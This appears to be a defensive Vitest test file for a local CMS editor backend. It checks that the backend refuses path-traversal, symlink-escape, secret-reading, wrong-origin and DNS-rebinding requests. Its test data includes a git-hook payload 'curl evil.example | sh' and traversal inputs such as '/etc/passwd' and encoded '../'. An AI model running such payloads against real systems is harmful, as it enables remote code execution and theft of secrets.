/**
 * The editor's local backend (decap-server under `npm run dev`) as a hostile local web page or a rebinding DNS name
 * would drive it: it reads and writes content/ and content/uploads/ for the dev site's own origin, and nothing else.
 * It runs on a project-shaped folder in tmp, so every escape that got through would land there, not in this repository.
 */
import { existsSync, readFileSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { workerPort } from '../support/worker-ports.ts';
import { httpRequest, type HttpReply } from '../support/loopback-http.ts';
import { startDecapServer, type DecapServer } from '../../scripts/local-backend/cms-local-server.ts';

const siteOrigin = 'http://localhost:4321';
const secret = 'SMTP_PASSWORD=not-for-the-editor';
const outsideMessage = 'The local editor backend only reads and writes content/ and content/uploads/';

let root: string;
let server: DecapServer;
let port: number;

async function project(): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'editor-backend-'));
  const files: Record<string, string> = {
    '.env': `${secret}\n`,
    'package.json': '{ "name": "site" }\n',
    'README.md': '# Site\n',
    'astro.config.mjs': 'export default {};\n',
    'scripts/build.ts': 'export {};\n',
    '.git/hooks/pre-commit.sample': '#!/bin/sh\n',
    'content/pages/home.mdx': '---\ntitle: Home\n---\nWelcome.\n',
    'content/services/cloud.mdx': '---\nnavLabel: Cloud\n---\nCloud.\n',
    'content/uploads/logo.png': 'not really a png',
  };
  for (const [path, text] of Object.entries(files)) {
    await mkdir(join(dir, path, '..'), { recursive: true });
    await writeFile(join(dir, path), text);
  }
  // A link inside content/ that leads back out to the project root.
  await symlink('../..', join(dir, 'content/pages/escape'));
  return dir;
}

/** Every file under the project, so a test can see that a refused request changed nothing. */
async function snapshot(dir = root, prefix = ''): Promise<string[]> {
  const entries = await readdir(join(dir, prefix), { withFileTypes: true });
  const nested = await Promise.all(
    entries.map((entry) => {
      const path = prefix ? `${prefix}/${entry.name}` : entry.name;
      return entry.isDirectory() ? snapshot(dir, path) : [`${path}:${entry.isSymbolicLink() ? 'link' : readFileSync(join(dir, path), 'utf8')}`];
    }),
  );
  return nested.flat().sort();
}

interface Call {
  action: string;
  params?: Record<string, unknown>;
}

function api(call: Call, headers: Record<string, string> = {}): Promise<HttpReply> {
  return httpRequest(`http://127.0.0.1:${port}/api/v1`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: siteOrigin, ...headers },
    body: JSON.stringify({ branch: 'main', ...call, params: { branch: 'main', ...call.params } }),
  });
}

// A 1 × 1 PNG: the upload check reads what a file is, so an upload must be one.
const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
const persistEntry = (path: string, raw = 'hacked\n'): Call => ({
  action: 'persistEntry',
  params: { dataFiles: [{ slug: 'x', path, raw }], assets: [], options: { commitMessage: 'Update', useWorkflow: false, status: 'draft' } },
});
const persistMedia = (path: string): Call => ({
  action: 'persistMedia',
  params: { asset: { path, content: png, encoding: 'base64' }, options: { commitMessage: 'Upload' } },
});
const deleteFile = (path: string): Call => ({ action: 'deleteFile', params: { path, options: { commitMessage: 'Delete' } } });

beforeAll(async () => {
  root = await project();
  port = await workerPort();
  server = await startDecapServer({ root, port, siteOrigins: [siteOrigin] });
});

afterAll(async () => {
  await server?.close();
  if (root) await rm(root, { recursive: true, force: true });
});

describe('requests that reach outside content/', () => {
  const escapes: [string, Call, string][] = [
    ['a Git hook', persistEntry('.git/hooks/pre-commit', '#!/bin/sh\ncurl evil.example | sh\n'), '.git/hooks/pre-commit'],
    ['a config file at the root', persistEntry('astro.config.sec.mjs'), 'astro.config.sec.mjs'],
    ['a script, as media', persistMedia('scripts/sec-media.ts'), 'scripts/sec-media.ts'],
    ['.env, as an entry', { action: 'getEntry', params: { path: '.env' } }, '.env'],
    ['package.json, as media', { action: 'getMediaFile', params: { path: 'package.json' } }, 'package.json'],
    ['a file at the root, deleted', deleteFile('README.md'), 'README.md'],
    [
      'a root file among content files, deleted',
      { action: 'deleteFiles', params: { paths: ['content/uploads/logo.png', 'README.md'], options: { commitMessage: 'Delete' } } },
      'README.md',
    ],
    ['the root, listed as a folder', { action: 'entriesByFolder', params: { folder: '.', extension: 'env', depth: 1 } }, '.'],
    ['the root, listed as media', { action: 'getMedia', params: { mediaFolder: 'scripts' } }, 'scripts'],
    ['.env, among entries', { action: 'entriesByFiles', params: { files: [{ path: 'content/pages/home.mdx' }, { path: '.env' }] } }, '.env'],
    [
      'a config file, as an entry asset',
      {
        action: 'persistEntry',
        params: {
          dataFiles: [{ slug: 'x', path: 'content/services/x.mdx', raw: 'x' }],
          assets: [{ path: 'astro.config.sec.mjs', content: png, encoding: 'base64' }],
          options: { commitMessage: 'x', useWorkflow: false, status: 'draft' },
        },
      },
      'astro.config.sec.mjs',
    ],
    [
      'a rename out of content/',
      {
        action: 'persistEntry',
        params: {
          dataFiles: [{ slug: 'x', path: 'content/services/cloud.mdx', newPath: 'astro.config.sec.mjs', raw: 'x' }],
          assets: [],
          options: { commitMessage: 'x', useWorkflow: false, status: 'draft' },
        },
      },
      'astro.config.sec.mjs',
    ],
    ['../ out of content/', { action: 'getEntry', params: { path: 'content/../.env' } }, 'content/../.env'],
    ['URL-encoded ../', { action: 'getEntry', params: { path: 'content/%2e%2e/.env' } }, 'content/%2e%2e/.env'],
    ['URL-encoded /', persistEntry('content/..%2fastro.config.sec.mjs'), 'content/..%2fastro.config.sec.mjs'],
    ['backslashes', persistEntry('content\\..\\astro.config.sec.mjs'), 'content\\..\\astro.config.sec.mjs'],
    ['an absolute path', { action: 'getEntry', params: { path: '/etc/passwd' } }, '/etc/passwd'],
    ['another case of content/', persistEntry('Content/pages/home.mdx'), 'Content/pages/home.mdx'],
    ['a link inside content/ to the root', { action: 'getEntry', params: { path: 'content/pages/escape/.env' } }, 'content/pages/escape/.env'],
    ['a write through a link inside content/', persistEntry('content/pages/escape/astro.config.sec.mjs'), 'content/pages/escape/astro.config.sec.mjs'],
  ];

  it.each(escapes)('%s is refused with a message naming the path, and nothing changes', async (_, call, named) => {
    const before = await snapshot();
    const reply = await api(call);
    expect(reply.status, reply.body).toBe(403);
    const { error } = JSON.parse(reply.body) as { error: string };
    expect(error).toContain(outsideMessage);
    expect(error).toContain(named);
    expect(reply.body).not.toContain('not-for-the-editor');
    expect(reply.body).not.toContain(Buffer.from(secret).toString('base64').slice(0, 12));
    expect(await snapshot()).toEqual(before);
  });
});

describe('requests from anywhere but the dev site', () => {
  it('a page on another local port is refused, before and after its preflight', async () => {
    const before = await snapshot();
    const preflight = await httpRequest(`http://127.0.0.1:${port}/api/v1`, {
      method: 'OPTIONS',
      headers: { origin: 'http://localhost:3000', 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' },
    });
    expect(preflight.status).toBe(403);
    expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
    const reply = await api(persistEntry('content/pages/home.mdx'), { origin: 'http://localhost:3000' });
    expect(reply.status).toBe(403);
    expect(JSON.parse(reply.body).error).toMatch(/http:\/\/localhost:3000.*http:\/\/localhost:4321/);
    expect(await snapshot()).toEqual(before);
  });

  it('only the exact origin named is accepted', async () => {
    for (const origin of ['http://127.0.0.1:4321', 'https://localhost:4321', 'http://localhost:43210', 'http://localhost:4321.evil.example', 'null']) {
      const reply = await api({ action: 'getEntry', params: { path: 'content/pages/home.mdx' } }, { origin });
      expect(reply.status, origin).toBe(403);
      expect(reply.body, origin).not.toContain('Welcome');
    }
  });

  it('a rebinding DNS name (a Host that is not loopback) is refused', async () => {
    const before = await snapshot();
    for (const host of [`evil.example:${port}`, `localhost.evil.example:${port}`, `127.0.0.1.nip.io:${port}`, `127.0.0.1:${port + 1}`]) {
      // A rebinding page is same-origin with its own name, so it sends that origin (or none).
      const reply = await api(persistEntry('content/pages/home.mdx'), { host, origin: `http://${host}` });
      expect(reply.status, host).toBe(403);
      expect(JSON.parse(reply.body).error, host).toContain(host);
      const bare = await httpRequest(`http://127.0.0.1:${port}/api/v1`, {
        method: 'POST',
        headers: { host, 'content-type': 'application/json' },
        body: JSON.stringify({ action: 'getEntry', params: { branch: 'main', path: 'content/pages/home.mdx' } }),
      });
      expect(bare.status, host).toBe(403);
    }
    expect(await snapshot()).toEqual(before);
  });

  it('actions the editor does not use here are refused', async () => {
    for (const action of ['unpublishedEntries', 'publishUnpublishedEntry', 'somethingNew']) {
      const reply = await api({ action, params: { collection: 'services', slug: 'cloud' } });
      expect(reply.status, action).toBe(403);
      expect(JSON.parse(reply.body).error, action).toContain(action);
    }
  });
});

describe('the editor at work', () => {
  it('answers the dev site with its own origin allowed, on every loopback name', async () => {
    for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `[::1]:${port}`]) {
      const reply = await api({ action: 'info' }, { host });
      expect(reply.status, host).toBe(200);
      expect(reply.headers['access-control-allow-origin']).toBe(siteOrigin);
    }
    const preflight = await httpRequest(`http://127.0.0.1:${port}/api/v1`, {
      method: 'OPTIONS',
      headers: { origin: siteOrigin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' },
    });
    expect(preflight.status).toBe(204);
    expect(preflight.headers['access-control-allow-origin']).toBe(siteOrigin);
  });

  it('lists, reads and saves an entry under content/', async () => {
    const listed = await api({ action: 'entriesByFolder', params: { folder: 'content/services', extension: 'mdx', depth: 1 } });
    expect(listed.status, listed.body).toBe(200);
    expect(JSON.parse(listed.body)).toMatchObject([{ file: { path: 'content/services/cloud.mdx' }, data: expect.stringContaining('Cloud') }]);

    const read = await api({ action: 'getEntry', params: { path: 'content/pages/home.mdx' } });
    expect(JSON.parse(read.body)).toMatchObject({ file: { path: 'content/pages/home.mdx' }, data: expect.stringContaining('Welcome') });

    const saved = await api(persistEntry('content/services/backup.mdx', '---\nnavLabel: Backup\n---\nBackups.\n'));
    expect(saved.status, saved.body).toBe(200);
    expect(readFileSync(join(root, 'content/services/backup.mdx'), 'utf8')).toContain('Backups.');
  });

  it('uploads, lists and deletes an image in content/uploads/', async () => {
    const uploaded = await api(persistMedia('content/uploads/team.png'));
    expect(uploaded.status, uploaded.body).toBe(200);
    expect(JSON.parse(uploaded.body)).toMatchObject({ path: 'content/uploads/team.png', name: 'team.png', content: png });
    expect(readFileSync(join(root, 'content/uploads/team.png')).toString('base64')).toBe(png);

    const media = await api({ action: 'getMedia', params: { mediaFolder: 'content/uploads' } });
    expect((JSON.parse(media.body) as { path: string }[]).map((file) => file.path).sort()).toEqual(['content/uploads/logo.png', 'content/uploads/team.png']);

    const removed = await api(deleteFile('content/uploads/team.png'));
    expect(removed.status, removed.body).toBe(200);
    expect(existsSync(join(root, 'content/uploads/team.png'))).toBe(false);
  });
});
